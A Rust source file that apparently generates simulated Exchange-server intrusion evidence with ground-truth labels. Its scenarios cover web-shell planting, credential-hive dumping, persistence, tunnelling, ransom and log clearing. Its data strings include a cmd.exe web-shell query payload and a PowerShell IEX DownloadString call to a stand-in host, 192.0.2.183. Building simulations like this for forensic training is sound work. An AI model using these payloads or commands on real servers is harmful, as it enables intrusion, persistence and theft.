//! How attacks of the fresh set go: their order and pace.

use super::super::Habits;
use super::{SHRIKE_ELSEWHERE, after, pages};
use crate::attack::Attack;
use crate::attack::directory::ADMIN_CENTRE;
use crate::attack::page_use::Processes;
use crate::attack::{Page, directory};
use crate::event::make::Process;
use crate::format::web;
use crate::format::{config, page, whole};
use crate::moment::{DAY, HOUR, MINUTE, SECOND};
use crate::program::{SYSTEM, W3WP};
use crate::scenario::at;
use crate::server::{Mark, Server};
use crate::technique::Technique;
use crate::truth::{ActorKind, Weight};

/// What is asked of a page by query, as the web server logs it.
const ASKED: &str =
    "Response.Write(new%20Active¦XObject(%22WScr¦ipt.Shell%22).ex¦ec(%22cmd.exe%20/c%20COMMAND%22).StdOut.ReadAll());";

/// Three nights, each from elsewhere: the address book first, then a few mailboxes, at last by another cookie.
pub(super) fn mail_read(server: &mut Server, habits: &'static Habits) {
    let mut attack = Attack::begin(server, habits.intruders[0], ActorKind::Intruder, at(habits, 0, 19, 52));
    attack.look(&[
        ("/owa/auth/logon.aspx", Some("Owa"), 200),
        ("/autodiscover/autodiscover.xml", Some("Autodiscover"), 401),
    ]);
    attack.guess(4);
    attack.locate();
    attack.take_address_book();
    attack.read_mail(17);
    let actor = attack.actor;
    let mut attack = Attack::resume(server, &SHRIKE_ELSEWHERE, actor, at(habits, 1, 20, 14));
    attack.read_mail(23);
    attack.time = at(habits, 3, 18, 33);
    attack.by_cookie("/EWS/Exchange.asmx", 31, 200);
}

/// Two failures before a session, and another session the day after.
pub(super) fn session_only(server: &mut Server, habits: &'static Habits) {
    let mut attack = Attack::begin(server, habits.intruders[2], ActorKind::Intruder, at(habits, 0, 11, 3));
    attack.guess(2);
    attack.fail("/ecp/proxyLogon.ecp", 500);
    attack.fail("/mapi/emsmdb/", 500);
    attack.locate();
    attack.take_session();
    attack.time = at(habits, 1, 3, 47);
    attack.take_session();
}

/// The chain to a page by the admin centre's directory, and the page asked by query.
pub(super) fn url_page(server: &mut Server, habits: &'static Habits) {
    let who = habits.intruders[1];
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 1, 2, 18));
    attack.locate();
    attack.take_session();
    for page in who.pages {
        attack.plant_by_directory(page, &page::one_line(who.item), &ADMIN_CENTRE);
        attack.time = attack.time.plus(11 * MINUTE);
        for (number, command) in (0i64..).zip(["whoami", "ipconfig%20/all", "net%20view%20/domain"]) {
            let query = format!("{}={}", who.item, whole(ASKED).replace("COMMAND", command));
            attack.ask_by_query(page, &query, Weight::Must);
            attack.time = attack.time.plus(number * 71 * SECOND);
        }
        attack.time = at(habits, 4, 2, 20);
        attack.use_page(page, Processes::Unknown);
    }
}

/// The voice service starts a shell, and its worker writes a page that is then used.
pub(super) fn voice(server: &mut Server, habits: &'static Habits) {
    let mut attack = Attack::begin(server, habits.intruders[2], ActorKind::Intruder, at(habits, 0, 1, 57));
    attack.deserialise(&whole(habits.voice_command));
    attack.engine(Technique::ShellProcess, habits.voice_command);
    attack.time = attack.time.plus(3 * HOUR);
    let page = Page { place: pages::SIGN_IN, name: "errorNE.aspx" };
    let (worker, path) = {
        let host = attack.server.host;
        (host.installed("bin\\UMWorkerProcess.exe"), page.path(&host))
    };
    attack.deserialise("cmd.exe /c dir C:\\inetpub\\wwwroot\\aspnet_client");
    attack.file_written(&worker, &path);
    attack.lay_page(&page, &whole(pages::BY_VOICE), attack.time);
    attack.time = attack.time.plus(6 * MINUTE);
    attack.use_page(&page, Processes::Unknown);
}

/// A page; days later all that follows, and the logs cleared at the very end.
pub(super) fn aftermath(server: &mut Server, habits: &'static Habits) {
    let who = habits.intruders[0];
    let after = habits.aftermath;
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 0, 20, 40));
    attack.guess(1);
    attack.locate();
    attack.take_session();
    for page in who.pages {
        attack.plant_by_url(page, &page::one_line(who.item));
        attack.time = attack.time.plus(2 * HOUR);
        attack.use_page(page, Processes::Kept);
    }
    attack.time = at(habits, 1, 18, 24);
    if let Some(page) = who.pages.get(1) {
        let path = page.path(&attack.server.host);
        attack.found_by_defender(after.threat, &path);
        attack.server.lose(|lost, _| lost == path);
    }
    attack.time = at(habits, 1, 19, 5);
    attack.weighed_deeds(&after::LOOK_AROUND, Weight::Supporting);
    make_ready(&mut attack, habits);
    attack.time = at(habits, 2, 1, 30);
    attack.deeds(after.deeds);
    attack.open_credentials("C:\\Windows\\System32\\rundll32.exe");
    attack.scripts(after.scripts);
    attack.leave_hive("C:\\Windows\\Temp\\debugsms.evt", "SAM", "SAM\\Domains\\Account\\Users\\Names\\Administrator");
    attack.leave_hive("C:\\Windows\\Temp\\debugsys.evt", "SYSTEM", "ControlSet001\\Control\\Lsa\\JD");
    attack.leave(after.left);
    attack.fetch(after.fetched);
    attack.carry_off("/aspnet_client/system_web/4_0_30319/bg.part2.png", 58_224_071);
    attack.time = at(habits, 3, 18, 20);
    stay(&mut attack, habits);
    attack.time = at(habits, 4, 17, 58);
    attack.manage(after.management);
    tunnel(&mut attack);
    attack.time = at(habits, 5, 21, 14);
    attack.redirect(after.hosts);
    attack.typed(after.typed);
    attack.clear_channels(&["Windows PowerShell", "Application"]);
}

fn make_ready(attack: &mut Attack<'_>, habits: &'static Habits) {
    attack.stop_audit();
    attack.deeds(&after::MAKE_READY);
    attack.weighed_deeds(&after::LET_IN, Weight::Supporting);
    attack.stop_protection();
    attack.exclude(habits.aftermath.exclusion);
    attack.transfer("WindowsUpdates", "http://192.0.2.183:8080/i.png");
    attack.open_firewall("Secure Socket Tunneling Protocol (HTTP)", "C:\\Windows\\Help\\Corporate\\hh.exe");
    attack.long_script(Technique::RemoteTool, &after::CONNECT_BACK);
}

fn stay(attack: &mut Attack<'_>, habits: &'static Habits) {
    let after = habits.aftermath;
    attack.registry(after.registry);
    attack.hosted_service("FontCsvc", "fontcsvc", "C:\\Program Files\\Common Files\\microsoft shared\\WMI\\iiswmi.dll");
    attack.services(after.services);
    attack.consumer(
        "BlackTea",
        "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA \
         'Win32_PerfFormattedData_PerfOS_System'",
        "power¦shell -c I`E`X(New-Object Net.Web¦Client).Down¦loadString('http://192.0.2.183:8080/wm')",
    );
    attack.tasks(after.tasks);
    attack.brief_task("KwQmTzRb", "cmd.exe", "/C tasklist /m wdigest.dll > C:\\Windows\\Temp\\KwQmTzRb.tmp 2>&1");
    attack.wake_account(after.account, 501);
    attack.desktop(after.account);
    let (name, image) = after.module;
    let about = format!("the module {name}");
    let key = attack.server.key(Mark::must(Technique::ServerModule, attack.actor, about));
    let modules = [super::calm::ROUTER, (name, image, Some(key))];
    config::application_host(attack.server, attack.time, &modules);
}

fn tunnel(attack: &mut Attack<'_>) {
    let page = Page { place: pages::SYSTEM_WEB_4, name: "tunnel.aspx" };
    attack.lay_page(&page, &whole(pages::TUNNEL), attack.time);
    attack.time = attack.time.plus(MINUTE);
    attack.tunnel(&page, &[("10.20.0.5", 445), ("10.20.0.9", 3389)], 90);
}

/// A page and, a week later within half an hour: a download, the ransom, cleared logs. Only Sysmon keeps processes.
pub(super) fn ransom(server: &mut Server, habits: &'static Habits) {
    let who = habits.intruders[2];
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 0, 6, 12));
    attack.locate();
    attack.take_session();
    for page in who.pages {
        attack.plant_by_url(page, &page::one_line(who.item));
        attack.time = at(habits, 7, 22, 31);
        attack.use_page(page, Processes::Unknown);
    }
    for deed in &after::BEFORE_RANSOM {
        let command = whole(deed.command);
        let process = Process {
            parent: deed.parent,
            parent_command: deed.parent,
            image: deed.image,
            command: &command,
            user: SYSTEM,
        };
        let mark = Mark::must(deed.technique, attack.actor, format!("runs: {command}"));
        attack.seen_by_sysmon(&process, mark);
        attack.time = attack.time.plus(95 * SECOND);
    }
    attack.clear_channels(&["Application", "MSExchange Management", "Security", "System", "Windows PowerShell"]);
    attack.time = attack.time.plus(7 * MINUTE);
    attack.notes(&habits.aftermath.ransom);
}

/// The last comes first, and all are there within a day.
pub(super) fn three_intruders(server: &mut Server, habits: &'static Habits) {
    let starts = [at(habits, 1, 9, 26), at(habits, 1, 4, 55), at(habits, 0, 22, 8)];
    let directories = [directory::ADDRESS_BOOK, ADMIN_CENTRE, directory::ADDRESS_BOOK];
    for ((who, start), directory) in habits.intruders.into_iter().zip(starts).zip(directories) {
        let mut attack = Attack::begin(server, who, ActorKind::Intruder, start);
        attack.locate();
        attack.take_session();
        for page in who.pages {
            attack.plant_by_directory(page, &page::one_line(who.item), &directory);
            attack.time = attack.time.plus(13 * HOUR);
            attack.use_page(page, Processes::Unknown);
        }
    }
    for (who, start) in habits.probers.into_iter().zip([at(habits, 0, 23, 1), at(habits, 2, 0, 30)]) {
        let mut attack = Attack::begin(server, who, ActorKind::Prober, start);
        attack.fail("/EWS/Exchange.asmx", 401);
        attack.fail("/mapi/emsmdb/", 500);
        attack.fail("/ecp/DDI/DDIService.svc/GetObject", 403);
    }
}

/// Each page is laid by day and asked for by night: once to look, then with what it is to do.
pub(super) fn odd_places(server: &mut Server, habits: &'static Habits) {
    let mut attack = Attack::begin(server, habits.intruders[1], ActorKind::Intruder, at(habits, 0, 8, 44));
    attack.locate();
    attack.take_session();
    for odd in habits.odd_places {
        attack.hide(odd);
        attack.time = attack.time.plus(8 * MINUTE);
    }
    attack.time = at(habits, 1, 23, 15);
    for odd in habits.odd_places {
        let is_asked_for = [".aspx", ".ashx", "_el.css"].iter().any(|end| odd.page.name.ends_with(end));
        if is_asked_for {
            let about = format!("requests for the planted page {}", odd.page.name);
            let mark = Mark::must(Technique::ShellUse, attack.actor, about);
            let keys = web::keys(attack.server, &mark, odd.page.place.protocol.is_some());
            attack.ask(&odd.page, "GET", 200, keys);
            attack.time = attack.time.plus(17 * SECOND);
            attack.ask(&odd.page, "POST", 200, keys);
            attack.time = attack.time.plus(4 * MINUTE);
        }
    }
}

/// The page is gone and with it the web server's days and the management events; the proxy's rows are left.
pub(super) fn lost_logs(server: &mut Server, habits: &'static Habits) {
    let who = habits.intruders[2];
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 0, 14, 20));
    attack.locate();
    attack.take_session();
    for page in who.pages {
        attack.plant_by_url(page, &page::one_line(who.item));
        attack.time = attack.time.plus(25 * MINUTE);
        attack.use_page(page, Processes::Kept);
        attack.time = at(habits, 1, 13, 2);
        for command in habits.deletion {
            let command = whole(command);
            let process = Process {
                parent: W3WP,
                parent_command: "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\"",
                image: "C:\\Windows\\System32\\cmd.exe",
                command: &command,
                user: SYSTEM,
            };
            let technique = if command.contains("forfiles") { Technique::LogDeletion } else { Technique::LogClearing };
            let mark = Mark::must(technique, attack.actor, format!("runs: {command}"));
            attack.process(&process, &mark);
            attack.time = attack.time.plus(44 * SECOND);
        }
        attack.clear_channels(&["MSExchange Management"]);
        attack.time = at(habits, 4, 16, 9);
        attack.miss_page(page, 4);
    }
    let paths: Vec<String> = who.pages.iter().map(|page| page.path(&server.host)).collect();
    server.lose(|path, _| paths.iter().any(|page| page == path));
}

/// What the intruder deleted: the web server's logs of the first days, and the admin centre's.
pub(super) fn lose_logs(server: &mut Server) {
    let until = server.window.0.plus(4 * DAY + 13 * HOUR);
    server.lose(|path, modified| {
        let is_telling = path.contains("\\W3SVC1\\") || path.contains("\\ECP\\Server\\");
        is_telling && modified < until
    });
}
